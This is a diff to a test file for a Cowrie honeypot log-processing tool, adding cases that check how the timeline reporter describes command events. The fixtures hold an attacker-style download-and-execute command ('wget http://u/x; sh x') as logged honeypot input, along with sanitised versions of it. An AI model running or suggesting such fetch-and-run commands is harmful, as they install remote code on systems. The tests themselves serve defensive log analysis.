@@ -32,7 +32,16 @@ from cowrieprocessor.reporting.timeline import describe_event
         (
             "cowrie.command.input",
             {"input": None, "command": None, "input_safe": "wget [URL] [SC] sh x", "message": "m"},
-            "wget [URL] [SC] sh x",
+            "[rewritten by version 3] wget [URL] [SC] sh x",
+        ),
+        (
+            "cowrie.command.failed",
+            {
+                "input": None,
+                "input_safe": "wget [URL]u/x [SC] sh x",
+                "message": "Command not found: wget http://u/x; sh x",
+            },
+            "wget http://u/x; sh x",
         ),
         ("cowrie.command.input", {"input": "", "message": "CMD: "}, "CMD: "),
         (
